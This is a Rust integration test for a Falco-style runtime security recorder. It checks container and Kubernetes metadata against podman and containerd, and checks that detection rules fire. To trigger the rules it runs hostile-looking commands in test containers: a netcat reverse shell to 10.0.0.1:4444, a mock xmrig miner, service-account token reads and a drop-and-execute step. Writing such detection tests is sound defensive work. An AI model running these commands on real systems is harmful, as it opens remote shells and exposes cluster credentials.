//! Container and Kubernetes metadata recorded from real runtimes, checked
//! against what the runtimes themselves report, under concurrency.
//!
//! Podman (runc) containers and containerd containers shaped like kubelet
//! pods (namespace `k8s.io`, cgroups under `/kubepods/…`, the CRI's labels
//! and annotations, a sandbox container holding the pod's labels) run
//! before and during a recording, several rounds in parallel. For every
//! container the test requires:
//! - a `container` record that precedes the first event of any process in
//!   the container (and an initial record for those already running);
//! - every field Ferret gives (`container.*`, `k8s.*`) equal to what
//!   `podman inspect` and `ctr containers info` say, or to what the test
//!   asked the runtime for (labels, privileged, mounts, pod);
//! - rules written the way Falco articles write them, and upstream's own
//!   container rules, to fire on their scenario with the right image, pod
//!   and namespace, and an appended kube-system exception to hold.

use std::collections::{BTreeMap, HashMap};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use ferret_tests::recorder::Recorder;
use serde_json::Value;

mod common;

const IMAGE: &str = "localhost/ferret-meta:1";
const NGINX: &str = "docker.io/library/nginx:1.19";
const ROUNDS: usize = 3;
const SEP: &str = "|";

fn run(cmd: &str, args: &[&str]) -> String {
    let o = Command::new(cmd)
        .args(args)
        .stderr(Stdio::piped())
        .output()
        .unwrap_or_else(|e| panic!("{cmd}: {e}"));
    assert!(
        o.status.success(),
        "{cmd} {args:?}: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn sh(script: &str) {
    let st = Command::new("sh")
        .arg("-c")
        .arg(script)
        .status()
        .expect("sh");
    assert!(st.success(), "{script}");
}

/// A busybox image with the programs the scenarios run (busybox runs an
/// applet by its name: a link named xmrig or apt-get execs under that name)
/// and a service-account token, imported into podman and, as nginx:1.19,
/// into containerd's k8s.io namespace.
fn build_images(dir: &Path) {
    let root = dir.join("root");
    let _ = std::fs::remove_dir_all(&root);
    for d in [
        "bin",
        "etc",
        "tmp",
        "var/run/secrets/kubernetes.io/serviceaccount",
    ] {
        std::fs::create_dir_all(root.join(d)).expect("mkdir");
    }
    std::fs::copy("/bin/busybox", root.join("bin/busybox")).expect("busybox");
    for a in [
        "sh", "cat", "cp", "sleep", "ls", "nc", "xmrig", "apt-get", "nginx", "true", "ip",
    ] {
        std::os::unix::fs::symlink("busybox", root.join("bin").join(a)).expect("applet");
    }
    std::fs::write(
        root.join("var/run/secrets/kubernetes.io/serviceaccount/token"),
        "token\n",
    )
    .expect("token");
    sh(&format!(
        "tar -C {} -c . | podman import - {IMAGE} >/dev/null",
        root.display()
    ));
    let oci = dir.join("image.tar");
    let _ = std::fs::remove_file(&oci);
    sh(&format!(
        "podman save --format oci-archive -o {} {IMAGE} >/dev/null 2>&1",
        oci.display()
    ));
    let _ = Command::new("ctr")
        .args(["-n", "k8s.io", "image", "rm", NGINX])
        .output();
    run(
        "ctr",
        &[
            "-n",
            "k8s.io",
            "image",
            "import",
            "--index-name",
            NGINX,
            oci.to_str().expect("path"),
        ],
    );
}

/// containerd, started for the test when it is not running; stopped on drop
/// when the test started it.
struct Containerd(Option<Child>);

impl Containerd {
    fn ensure(dir: &Path) -> Containerd {
        let up = || {
            Command::new("ctr")
                .arg("version")
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .status()
                .is_ok_and(|s| s.success())
        };
        if up() {
            return Containerd(None);
        }
        let log = std::fs::File::create(dir.join("containerd.log")).expect("log");
        let child = Command::new("containerd")
            .stdout(Stdio::null())
            .stderr(log)
            .spawn()
            .expect("containerd");
        let t = Instant::now();
        while !up() {
            assert!(
                t.elapsed() < Duration::from_secs(20),
                "containerd did not start"
            );
            std::thread::sleep(Duration::from_millis(100));
        }
        Containerd(Some(child))
    }
}

impl Drop for Containerd {
    fn drop(&mut self) {
        if let Some(mut c) = self.0.take() {
            // SAFETY: signalling our own child.
            unsafe { libc::kill(c.id() as i32, libc::SIGTERM) };
            let _ = c.wait();
        }
    }
}

/// What a scenario asked of its container: the ground truth the runtime
/// cannot report back.
#[derive(Clone, Debug, Default)]
struct Want {
    labels: BTreeMap<String, String>,
    privileged: bool,
    pod: Option<(String, String, String)>,
    pod_labels: BTreeMap<String, String>,
    sandbox: Option<String>,
}

fn hex_id(seed: u64) -> String {
    // Four rounds of a 64-bit mix: a 64-hex-digit id unique per seed.
    let mut x = seed ^ 0x9e37_79b9_7f4a_7c15;
    let mut s = String::new();
    for _ in 0..4 {
        x ^= x >> 33;
        x = x.wrapping_mul(0xff51_afd7_ed55_8ccd);
        x ^= x >> 33;
        s.push_str(&format!("{x:016x}"));
    }
    s
}

fn podman_run(name: &str, extra: &[&str], cmd: &[&str]) -> Child {
    podman_run_out(name, extra, cmd, false)
}

/// The address a container reported for itself (`ip -o -4 addr show eth0`).
fn own_ip(out: &str) -> Option<String> {
    let i = out.find("inet ")? + 5;
    Some(out[i..].split('/').next()?.trim().to_string())
}

fn podman_run_out(name: &str, extra: &[&str], cmd: &[&str], out: bool) -> Child {
    Command::new("podman")
        .args(ferret_tests::PODMAN_RUN)
        .args(["--name", name])
        .args(extra)
        .arg(IMAGE)
        .args(cmd)
        .stdout(if out { Stdio::piped() } else { Stdio::null() })
        .stderr(Stdio::null())
        .spawn()
        .expect("podman run")
}

/// A kubelet-shaped pod: a sandbox container holding the pod's labels and
/// an application container, both in `/kubepods/besteffort/pod<uid>/`.
fn ctr_pod(
    pod: &str,
    ns: &str,
    seed: u64,
    privileged: bool,
    cmd: &str,
    wants: &mut HashMap<String, Want>,
) -> (String, Child) {
    let uid = {
        let h = hex_id(seed + 1000);
        format!(
            "{}-{}-{}-{}-{}",
            &h[..8],
            &h[8..12],
            &h[12..16],
            &h[16..20],
            &h[20..32]
        )
    };
    let sandbox = hex_id(seed + 2000);
    let app = hex_id(seed + 3000);
    let common_labels = [
        ("io.kubernetes.pod.name", pod),
        ("io.kubernetes.pod.namespace", ns),
        ("io.kubernetes.pod.uid", uid.as_str()),
    ];
    let pod_labels: BTreeMap<String, String> = [("app", "nginx"), ("tier", "front")]
        .into_iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    let args = |id: &str, kind: &str, labels: &[(String, String)], annotations: &[(&str, &str)]| {
        let mut a: Vec<String> = vec![
            "-n".into(),
            "k8s.io".into(),
            "run".into(),
            "--cgroup".into(),
            format!("/kubepods/besteffort/pod{uid}/{id}"),
        ];
        if privileged && kind == "container" {
            a.push("--privileged".into());
        }
        for (k, v) in labels {
            a.push("--label".into());
            a.push(format!("{k}={v}"));
        }
        a.push("--annotation".into());
        a.push(format!("io.kubernetes.cri.container-type={kind}"));
        for (k, v) in annotations {
            a.push("--annotation".into());
            a.push(format!("{k}={v}"));
        }
        a.push(NGINX.into());
        a.push(id.into());
        a
    };
    let mut sb_labels: Vec<(String, String)> = common_labels
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    sb_labels.extend(pod_labels.clone());
    let mut sa = args(
        &sandbox,
        "sandbox",
        &sb_labels,
        &[
            ("io.kubernetes.cri.sandbox-name", pod),
            ("io.kubernetes.cri.sandbox-namespace", ns),
        ],
    );
    sa.insert(3, "-d".into());
    sa.extend(["sleep".into(), "30".into()]);
    let st = Command::new("ctr")
        .args(&sa)
        .stdout(Stdio::null())
        .status()
        .expect("ctr run sandbox");
    assert!(st.success(), "ctr run sandbox");
    let mut app_labels: Vec<(String, String)> = common_labels
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    app_labels.push(("io.kubernetes.container.name".into(), "nginx".into()));
    let mut aa = args(
        &app,
        "container",
        &app_labels,
        &[
            ("io.kubernetes.cri.sandbox-id", sandbox.as_str()),
            ("io.kubernetes.cri.sandbox-name", pod),
            ("io.kubernetes.cri.sandbox-namespace", ns),
            ("io.kubernetes.cri.container-name", "nginx"),
            ("io.kubernetes.cri.image-name", NGINX),
        ],
    );
    aa.extend(["sh".into(), "-c".into(), cmd.into()]);
    let child = Command::new("ctr")
        .args(&aa)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("ctr run");
    let mut labels: BTreeMap<String, String> = app_labels.into_iter().collect();
    labels.insert("io.kubernetes.container.name".into(), "nginx".into());
    wants.insert(
        app.clone(),
        Want {
            labels,
            privileged,
            pod: Some((pod.into(), ns.into(), uid.clone())),
            pod_labels: pod_labels.clone(),
            sandbox: Some(sandbox.clone()),
        },
    );
    let mut sb_want: BTreeMap<String, String> = sb_labels.into_iter().collect();
    sb_want.extend(pod_labels.clone());
    wants.insert(
        sandbox.clone(),
        Want {
            labels: sb_want,
            privileged: false,
            pod: Some((pod.into(), ns.into(), uid)),
            pod_labels,
            sandbox: Some(sandbox.clone()),
        },
    );
    (app, child)
}

/// The fields Ferret gives for a container, by full id: from its first
/// process event in the capture.
const FIELDS: &[&str] = &[
    "container.full_id",
    "container.id",
    "container.name",
    "container.image",
    "container.image.repository",
    "container.image.tag",
    "container.image.id",
    "container.image.digest",
    "container.type",
    "container.privileged",
    "container.labels",
    "container.mounts",
    "container.ip",
    "container.start_ts",
    "container.host_network",
    "k8s.pod.name",
    "k8s.ns.name",
    "k8s.pod.uid",
    "k8s.pod.labels",
    "k8s.pod.full_sandbox_id",
    "container.info",
];

fn labels_text(l: &BTreeMap<String, String>) -> String {
    l.iter()
        .map(|(k, v)| format!("{k}:{v}"))
        .collect::<Vec<_>>()
        .join(", ")
}

/// Truth for a podman container: `podman inspect` and `podman image inspect`.
fn podman_truth(id: &str, want: &Want, own_ip: Option<&String>) -> BTreeMap<&'static str, String> {
    let v: Value = serde_json::from_str(&run("podman", &["inspect", id])).expect("inspect");
    let c = &v[0];
    let s = |p: &str| {
        c.pointer(p)
            .and_then(|x| x.as_str())
            .unwrap_or("")
            .to_string()
    };
    let img: Value =
        serde_json::from_str(&run("podman", &["image", "inspect", &s("/Image")])).expect("image");
    let full = s("/Id");
    let image = s("/ImageName");
    let (repo, tag) = image.rsplit_once(':').expect("image tag");
    let mounts: Vec<String> = c["Mounts"]
        .as_array()
        .expect("mounts")
        .iter()
        .map(|m| {
            format!(
                "{}:{}:{}:{}:{}",
                m["Source"].as_str().unwrap_or(""),
                m["Destination"].as_str().unwrap_or(""),
                if m["RW"].as_bool() == Some(false) {
                    "ro"
                } else {
                    ""
                },
                m["RW"].as_bool().unwrap_or(false),
                m["Propagation"].as_str().unwrap_or("")
            )
        })
        .collect();
    // Falco's container.start_ts is the creation time.
    let started = s("/Created");
    let mut t = BTreeMap::new();
    t.insert("container.full_id", full.clone());
    t.insert("container.id", full[..12].to_string());
    t.insert("container.name", s("/Name"));
    t.insert("container.image", image.clone());
    t.insert("container.image.repository", repo.to_string());
    t.insert("container.image.tag", tag.to_string());
    t.insert("container.image.id", s("/Image"));
    t.insert(
        "container.image.digest",
        img[0]["Digest"].as_str().unwrap_or("").to_string(),
    );
    t.insert("container.type", "podman".into());
    t.insert(
        "container.privileged",
        c["HostConfig"]["Privileged"]
            .as_bool()
            .expect("privileged")
            .to_string(),
    );
    assert_eq!(
        c["HostConfig"]["Privileged"].as_bool(),
        Some(want.privileged),
        "podman did not do what the test asked"
    );
    t.insert("container.labels", labels_text(&want.labels));
    t.insert(
        "container.mounts",
        if mounts.is_empty() {
            "".into()
        } else {
            mounts.join(",")
        },
    );
    // The address the container reported for itself, or podman's while it
    // runs (an exited container has none left).
    let inspect_ip = c["NetworkSettings"]["Networks"]
        .as_object()
        .and_then(|n| {
            n.values()
                .find_map(|x| x["IPAddress"].as_str().filter(|i| !i.is_empty()))
        })
        .unwrap_or("")
        .to_string();
    t.insert("container.ip", own_ip.cloned().unwrap_or(inspect_ip));
    t.insert("container.start_ts", started_ns(&started).to_string());
    t.insert("container.host_network", "false".into());
    let na = "<NA>".to_string();
    t.insert(
        "k8s.pod.name",
        want.labels
            .get("io.kubernetes.pod.name")
            .cloned()
            .unwrap_or(na.clone()),
    );
    t.insert("k8s.ns.name", na.clone());
    t.insert("k8s.pod.uid", na.clone());
    t.insert(
        "k8s.pod.labels",
        if want.labels.contains_key("io.kubernetes.pod.name") {
            labels_text(
                &want
                    .labels
                    .iter()
                    .filter(|(k, _)| !k.starts_with("io.kubernetes."))
                    .map(|(k, v)| (k.clone(), v.clone()))
                    .collect(),
            )
        } else {
            na.clone()
        },
    );
    t.insert("k8s.pod.full_sandbox_id", na);
    t.insert(
        "container.info",
        format!("{} (id={})", s("/Name"), &full[..12]),
    );
    t
}

/// Truth for a containerd container: `ctr containers info`, the image's
/// digests from `ctr images ls` and its manifest, and what the test asked.
fn ctr_truth(id: &str, want: &Want) -> BTreeMap<&'static str, String> {
    let v: Value = serde_json::from_str(&run("ctr", &["-n", "k8s.io", "containers", "info", id]))
        .expect("info");
    let image = v["Image"].as_str().expect("image").to_string();
    let ls = run(
        "ctr",
        &["-n", "k8s.io", "images", "ls", &format!("name=={image}")],
    );
    let digest = ls
        .lines()
        .nth(1)
        .and_then(|l| l.split_whitespace().nth(2))
        .expect("digest")
        .to_string();
    let manifest: Value =
        serde_json::from_str(&run("ctr", &["-n", "k8s.io", "content", "get", &digest]))
            .expect("manifest");
    let manifest = match manifest["manifests"][0]["digest"].as_str() {
        Some(m) => serde_json::from_str(&run("ctr", &["-n", "k8s.io", "content", "get", m]))
            .expect("manifest"),
        None => manifest,
    };
    let config = manifest["config"]["digest"]
        .as_str()
        .unwrap_or("")
        .to_string();
    let labels: BTreeMap<String, String> = v["Labels"]
        .as_object()
        .expect("labels")
        .iter()
        .map(|(k, v)| (k.clone(), v.as_str().unwrap_or("").to_string()))
        .collect();
    for (k, val) in &want.labels {
        assert_eq!(labels.get(k), Some(val), "containerd lost label {k}");
    }
    let (repo, tag) = image.rsplit_once(':').expect("tag");
    let created = v["CreatedAt"].as_str().expect("created");
    let (pod, ns, uid) = want.pod.clone().expect("pod");
    let sandbox = want.sandbox.as_deref() == Some(id);
    let mut t = BTreeMap::new();
    t.insert("container.full_id", id.to_string());
    t.insert("container.id", id[..12].to_string());
    t.insert(
        "container.name",
        if sandbox { pod.clone() } else { "nginx".into() },
    );
    t.insert("container.image", image.clone());
    t.insert("container.image.repository", repo.to_string());
    t.insert("container.image.tag", tag.to_string());
    t.insert(
        "container.image.id",
        config.trim_start_matches("sha256:").to_string(),
    );
    t.insert("container.image.digest", digest);
    t.insert("container.type", "containerd".into());
    t.insert("container.privileged", want.privileged.to_string());
    t.insert("container.labels", labels_text(&labels));
    t.insert("container.mounts", "".into());
    t.insert("container.ip", "<NA>".into());
    t.insert("container.start_ts", started_ns(created).to_string());
    t.insert("container.host_network", "false".into());
    t.insert("k8s.pod.name", pod);
    t.insert("k8s.ns.name", ns);
    t.insert("k8s.pod.uid", uid);
    t.insert("k8s.pod.labels", labels_text(&want.pod_labels));
    t.insert(
        "k8s.pod.full_sandbox_id",
        if sandbox {
            "<NA>".into()
        } else {
            want.sandbox.clone().unwrap_or_default()
        },
    );
    t.insert(
        "container.info",
        format!("{} (id={})", t["container.name"], &id[..12]),
    );
    t
}

/// ns since the epoch of an RFC 3339 time as the runtimes print it.
fn started_ns(s: &str) -> u64 {
    let out = run("date", &["-u", "-d", s, "+%s%N"]);
    out.trim().parse().expect("date")
}

#[test]
fn container_records_match_the_runtimes_and_container_rules_fire() {
    if ferret_tests::skip_unless(
        ferret_tests::recorder::can_record(),
        "root with BPF rights and kernel BTF",
    ) {
        return;
    }
    for t in ["podman", "runc", "busybox", "containerd", "ctr"] {
        if ferret_tests::skip_unless(ferret_tests::recorder::have(t), t) {
            return;
        }
    }
    let dir = ferret_tests::scratch("container-meta");
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("mkdir");
    let _containerd = Containerd::ensure(&dir);
    build_images(&dir);
    let tag = std::process::id() as u64 * 100;
    let mut wants: HashMap<String, Want> = HashMap::new();
    let mut names: Vec<(String, String)> = Vec::new(); // podman (name, full id)
    let mut ctr_ids: Vec<String> = Vec::new();
    let mut ips: HashMap<String, String> = HashMap::new();

    // Already running when the recording starts.
    let pre = format!("ferret-meta-pre-{tag}");
    let mut p = podman_run(&pre, &["-d", "--label", "team=blue"], &["sleep", "60"]);
    assert!(p.wait().expect("podman").success());
    wants.insert(
        pre.clone(),
        Want {
            labels: [("team".to_string(), "blue".to_string())].into(),
            ..Want::default()
        },
    );
    let (pre_app, mut pre_child) = ctr_pod(
        &format!("pre-{tag}"),
        "web",
        tag,
        false,
        "sleep 20",
        &mut wants,
    );
    ctr_ids.push(pre_app.clone());

    let cap = dir.join("containers.cap");
    let rec = Recorder::start(
        env!("CARGO_BIN_EXE_recorder"),
        &["--out", cap.to_str().expect("path"), "--quiet"],
    );
    // A process in each container that was already running: its fields come
    // from the initial records.
    run("podman", &["exec", &pre, "cat", "/etc/hostname"]);
    run(
        "ctr",
        &[
            "-n",
            "k8s.io",
            "task",
            "exec",
            "--exec-id",
            "probe",
            &pre_app,
            "cat",
            "/var/run/secrets/kubernetes.io/serviceaccount/token",
        ],
    );
    let hostdir = dir.join("k8s-manifests");
    std::fs::create_dir_all(&hostdir).expect("mkdir");
    let mount = format!("{}:/etc/kubernetes:ro", hostdir.display());
    for round in 0..ROUNDS {
        let seed = tag + 10 * (round as u64 + 1);
        let mut kids = Vec::new();
        let mut own = Vec::new();
        // A privileged miner with a sensitive mount that drops and runs a
        // binary and installs a package.
        let miner = format!("ferret-meta-miner-{tag}-{round}");
        own.push((miner.clone(), podman_run_out(
            &miner,
            &[
                "--privileged",
                "--label",
                "io.kubernetes.pod.name=miner-pod",
                "--label",
                "app=miner",
                "-v",
                &mount,
            ],
            &[
                "sh",
                "-c",
                "ip -o -4 addr show eth0; xmrig --url stratum+tcp://pool.example:3333; cp /bin/busybox /tmp/dropped; /tmp/dropped true; apt-get install curl; true",
            ],
            true,
        )));
        wants.insert(
            miner.clone(),
            Want {
                labels: [
                    (
                        "io.kubernetes.pod.name".to_string(),
                        "miner-pod".to_string(),
                    ),
                    ("app".to_string(), "miner".to_string()),
                ]
                .into(),
                privileged: true,
                ..Want::default()
            },
        );
        // A shell with a terminal.
        let tty = format!("ferret-meta-tty-{tag}-{round}");
        own.push((
            tty.clone(),
            podman_run_out(
                &tty,
                &["-t"],
                &["sh", "-c", "ip -o -4 addr show eth0; sleep 0.2"],
                true,
            ),
        ));
        wants.insert(tty.clone(), Want { ..Want::default() });
        names.push((miner, String::new()));
        names.push((tty, String::new()));
        // Pods: one in web reads the token, runs nc -e and a shell in the
        // nginx image; one in kube-system (privileged) reads the token.
        let (web, c) = ctr_pod(
            &format!("nginx-{round}"),
            "web",
            seed,
            false,
            "cat /var/run/secrets/kubernetes.io/serviceaccount/token; /bin/nc -e /bin/sh 10.0.0.1 4444; true",
            &mut wants,
        );
        kids.push(c);
        ctr_ids.push(web);
        let (sys, c) = ctr_pod(
            &format!("coredns-{round}"),
            "kube-system",
            seed + 5,
            true,
            "cat /var/run/secrets/kubernetes.io/serviceaccount/token; true",
            &mut wants,
        );
        kids.push(c);
        ctr_ids.push(sys);
        for mut k in kids {
            let _ = k.wait();
        }
        for (name, k) in own {
            let o = k.wait_with_output().expect("podman");
            if let Some(ip) = own_ip(&String::from_utf8_lossy(&o.stdout)) {
                ips.insert(name, ip);
            }
        }
    }
    std::thread::sleep(Duration::from_millis(500));
    rec.stop();
    let _ = pre_child.kill();
    let _ = pre_child.wait();

    // Ground truth from the runtimes, then clean up.
    let mut truth: HashMap<String, BTreeMap<&'static str, String>> = HashMap::new();
    names.insert(0, (pre.clone(), String::new()));
    for (name, full) in names.iter_mut() {
        let w = wants[name.as_str()].clone();
        let t = podman_truth(name, &w, ips.get(name.as_str()));
        *full = t["container.full_id"].clone();
        truth.insert(full.clone(), t);
    }
    let mut all_ctr: Vec<String> = Vec::new();
    for id in &ctr_ids {
        let sandbox = wants[id].sandbox.clone().expect("sandbox");
        all_ctr.push(id.clone());
        all_ctr.push(sandbox);
    }
    for id in &all_ctr {
        truth.insert(id.clone(), ctr_truth(id, &wants[id]));
    }
    for (name, _) in &names {
        let _ = Command::new("podman").args(["rm", "-f", name]).output();
    }
    for id in &all_ctr {
        let _ = Command::new("ctr")
            .args(["-n", "k8s.io", "task", "kill", "-s", "KILL", id])
            .output();
    }
    std::thread::sleep(Duration::from_millis(300));
    for id in &all_ctr {
        let _ = Command::new("ctr")
            .args(["-n", "k8s.io", "task", "rm", "-f", id])
            .output();
        let _ = Command::new("ctr")
            .args(["-n", "k8s.io", "containers", "rm", id])
            .output();
    }

    check_records_and_fields(&cap, &truth, &names, &pre_app, &wants);
    check_rules(&cap, &names, &ctr_ids, &wants);
}

fn check_records_and_fields(
    cap: &Path,
    truth: &HashMap<String, BTreeMap<&'static str, String>>,
    names: &[(String, String)],
    pre_app: &str,
    wants: &HashMap<String, Want>,
) {
    // Every event in a container, in order: the record must come first.
    let fmt = format!(
        "%evt.num{SEP}%evt.type{SEP}%evt.arg.initial{SEP}{}",
        FIELDS
            .iter()
            .map(|f| format!("%{f}"))
            .collect::<Vec<_>>()
            .join(SEP)
    );
    let out = common::outputs(cap, "container.id != host", &fmt);
    let mut recorded: HashMap<String, bool> = HashMap::new(); // full id -> initial
    let mut first: HashMap<String, Vec<String>> = HashMap::new();
    // Records read from the file itself: the initial ones (containers
    // running at the start) are state, never seen by rules.
    let c = capture::Capture::open(cap).expect("open");
    let mut initial: Vec<String> = Vec::new();
    let errs = c.for_each_event(|e| {
        if e.kind == capture::kind::id::CONTAINER {
            let id = match e.arg("id") {
                Some(capture::args::ArgValue::Str(b)) => String::from_utf8_lossy(b).into_owned(),
                _ => String::new(),
            };
            let init = e.arg("initial").and_then(|v| v.as_u64()) == Some(1);
            if init {
                initial.push(id.clone());
                recorded.insert(id, true);
            }
        }
    });
    assert!(errs.is_empty(), "{errs:?}");
    let mut misses = Vec::new();
    for line in &out {
        let f: Vec<String> = line.split(SEP).map(str::to_string).collect();
        let full = f[3].clone();
        if !truth.contains_key(&full) {
            continue;
        }
        if f[1] == "container" {
            recorded.entry(full).or_insert(f[2] == "1");
            continue;
        }
        if !recorded.contains_key(&full) && !first.contains_key(&full) {
            misses.push(format!(
                "{full}: event {} ({}) precedes the container's record",
                f[0], f[1]
            ));
        }
        if matches!(f[1].as_str(), "procexec" | "execve") {
            first.entry(full).or_insert_with(|| f[3..].to_vec());
        }
    }
    let pre_full = &names[0].1;
    for id in [
        pre_full.as_str(),
        pre_app,
        wants[pre_app].sandbox.as_deref().unwrap_or(""),
    ] {
        if !initial.iter().any(|i| i == id) {
            misses.push(format!("{id}: running at start, but no initial record"));
        }
    }
    // Fields of every container with a process seen in the capture.
    let mut checked = 0;
    for (full, t) in truth {
        if !recorded.contains_key(full) {
            // A sandbox of a pre-existing pod runs no new process; every
            // other container must be recorded.
            misses.push(format!("{full}: no container record"));
            continue;
        }
        let Some(got) = first.get(full) else { continue };
        checked += 1;
        for (i, name) in FIELDS.iter().enumerate() {
            let want = t.get(name).cloned().unwrap_or_default();
            if got[i] != want {
                misses.push(format!(
                    "{full} {name}: Ferret {:?}, truth {want:?}",
                    got[i]
                ));
            }
        }
    }
    // `analyzer info` lists every container, and says what containerd
    // could not tell (its address) and why.
    let sum = engine::summary::summarize(&c);
    for (full, t) in truth {
        match sum.containers.iter().find(|s| &s.id == full) {
            None => misses.push(format!("{full}: not in analyzer info")),
            Some(s) => {
                let ip_missing = s.missing.iter().any(|(f, w)| f == "ip" && !w.is_empty());
                if (t["container.type"] == "containerd") != ip_missing {
                    misses.push(format!("{full}: info's missing fields {:?}", s.missing));
                }
            }
        }
    }
    assert!(
        checked >= 2 + 2 * ROUNDS + 2 * ROUNDS,
        "only {checked} containers had a process event"
    );
    assert!(misses.is_empty(), "{}", misses.join("\n"));
}

fn check_rules(
    cap: &Path,
    names: &[(String, String)],
    ctr_ids: &[String],
    wants: &HashMap<String, Want>,
) {
    // Rules as the articles write them.
    let article = r#"
- list: miner_names
  items: [xmrig, minerd, cpuminer]
- macro: spawned
  condition: evt.type in (execve, execveat) and evt.dir = <
- rule: Crypto miner in container
  desc: a miner by name or by its pool protocol
  condition: spawned and container.id != host and (proc.name in (miner_names) or proc.cmdline contains "stratum+tcp")
  output: "miner %proc.cmdline image=%container.image.repository:%container.image.tag pod=%k8s.pod.name ns=%k8s.ns.name id=%container.id"
  priority: CRITICAL
- rule: Netcat with exec in container
  desc: nc -e
  condition: spawned and container.id != host and proc.name = nc and proc.args contains "-e"
  output: "nc %proc.cmdline image=%container.image.repository pod=%k8s.pod.name ns=%k8s.ns.name id=%container.id"
  priority: WARNING
- rule: Service account token read
  desc: the token read by anything
  condition: evt.type in (open, openat, openat2) and evt.is_open_read = true and fd.name startswith /var/run/secrets/kubernetes.io/serviceaccount and container.id != host
  output: "token %proc.name pod=%k8s.pod.name ns=%k8s.ns.name id=%container.id"
  priority: WARNING
- rule: Service account token read
  condition: and not k8s.ns.name = kube-system
  override:
    condition: append
- rule: Package manager in container
  desc: apt in a running container
  condition: spawned and container.id != host and proc.name in (apt, apt-get, dpkg, yum, apk)
  output: "pkg %proc.name image=%container.image pod=%k8s.pod.name id=%container.id"
  priority: ERROR
- rule: Shell with terminal in container
  desc: an interactive shell
  condition: spawned and container.id != host and proc.name in (sh, bash) and proc.tty != 0
  output: "tty %proc.name image=%container.image.repository id=%container.id"
  priority: NOTICE
- rule: Unexpected process in nginx container
  desc: only nginx runs in the nginx image
  condition: spawned and container.image.repository endswith /nginx and not proc.name in (nginx)
  output: "nginx-drift %proc.name pod=%k8s.pod.name ns=%k8s.ns.name id=%container.id"
  priority: WARNING
"#;
    let path = cap.with_file_name("article.yaml");
    std::fs::write(&path, article).expect("rules");
    let alerts = run_rules(cap, &[path]);
    let podman_id = |name: &str| {
        names
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, f)| f[..12].to_string())
            .expect("podman container")
    };
    let mut misses = Vec::new();
    let expect = |rule: &str, id: &str, needles: &[String], alerts: &[(String, String, String)]| {
        let hit = alerts.iter().any(|(r, c, o)| {
            r == rule && c == id && needles.iter().all(|n| o.contains(n.as_str()))
        });
        (!hit).then(|| format!("{rule}: nothing for {id} with {needles:?}"))
    };
    for round in 0..ROUNDS {
        let tag = std::process::id() as u64 * 100;
        let miner = podman_id(&format!("ferret-meta-miner-{tag}-{round}"));
        misses.extend(expect(
            "Crypto miner in container",
            &miner,
            &[
                "image=localhost/ferret-meta:1".into(),
                "pod=miner-pod".into(),
            ],
            &alerts,
        ));
        misses.extend(expect(
            "Package manager in container",
            &miner,
            &["pkg apt-get".into()],
            &alerts,
        ));
        let tty = podman_id(&format!("ferret-meta-tty-{tag}-{round}"));
        misses.extend(expect(
            "Shell with terminal in container",
            &tty,
            &["tty sh".into()],
            &alerts,
        ));
    }
    for id in ctr_ids {
        let w = &wants[id];
        let (pod, ns, _) = w.pod.clone().expect("pod");
        if pod.starts_with("pre-") {
            continue;
        }
        let short = &id[..12];
        let where_ = vec![format!("pod={pod}"), format!("ns={ns}")];
        misses.extend(expect(
            "Unexpected process in nginx container",
            short,
            &where_,
            &alerts,
        ));
        if ns == "web" {
            misses.extend(expect(
                "Service account token read",
                short,
                &where_,
                &alerts,
            ));
            misses.extend(expect(
                "Netcat with exec in container",
                short,
                &where_,
                &alerts,
            ));
        } else if alerts
            .iter()
            .any(|(r, c, _)| r == "Service account token read" && c == short)
        {
            misses.push(format!(
                "the kube-system exception did not hold for {short}"
            ));
        }
    }
    // Upstream's container rules on the same scenarios.
    let corpus = ferret_tests::workspace().join("../shared/corpus/falco-rules");
    if ferret_tests::skip_unless(corpus.exists(), "../shared/corpus/falco-rules") {
        assert!(misses.is_empty(), "{}", misses.join("\n"));
        return;
    }
    let upstream = run_rules(
        cap,
        &[
            corpus.join("falco_rules.yaml"),
            corpus.join("falco-incubating_rules.yaml"),
            corpus.join("falco-sandbox_rules.yaml"),
        ],
    );
    let fired = |rule: &str, id: &str| upstream.iter().any(|(r, c, _)| r == rule && c == id);
    for id in ctr_ids {
        if wants[id]
            .pod
            .as_ref()
            .is_some_and(|p| p.0.starts_with("nginx-"))
            && !fired("Netcat Remote Code Execution in Container", &id[..12])
        {
            misses.push(format!(
                "upstream netcat rule did not fire for {}",
                &id[..12]
            ));
        }
    }
    for round in 0..ROUNDS {
        let tag = std::process::id() as u64 * 100;
        let miner = podman_id(&format!("ferret-meta-miner-{tag}-{round}"));
        let tty = podman_id(&format!("ferret-meta-tty-{tag}-{round}"));
        for (rule, id) in [
            ("Launch Privileged Container", &miner),
            ("Drop and execute new binary in container", &miner),
            ("Launch Package Management Process in Container", &miner),
            ("Terminal shell in container", &tty),
        ] {
            if !fired(rule, id) {
                misses.push(format!("upstream {rule:?} did not fire for {id}"));
            }
        }
    }
    assert!(misses.is_empty(), "{}", misses.join("\n"));
}

/// (rule, container id, output) of every alert of the rule files over the
/// capture.
fn run_rules(cap: &Path, rules: &[PathBuf]) -> Vec<(String, String, String)> {
    let cid: HashMap<u64, String> =
        common::outputs(cap, "container.id != host", "%evt.num %container.id")
            .into_iter()
            .filter_map(|l| {
                let (n, id) = l.split_once(' ')?;
                Some((n.parse().ok()?, id.to_string()))
            })
            .collect();
    common::alerts(cap, rules)
        .into_iter()
        .map(|(r, n, o)| (r, cid.get(&n).cloned().unwrap_or_else(|| "host".into()), o))
        .collect()
}
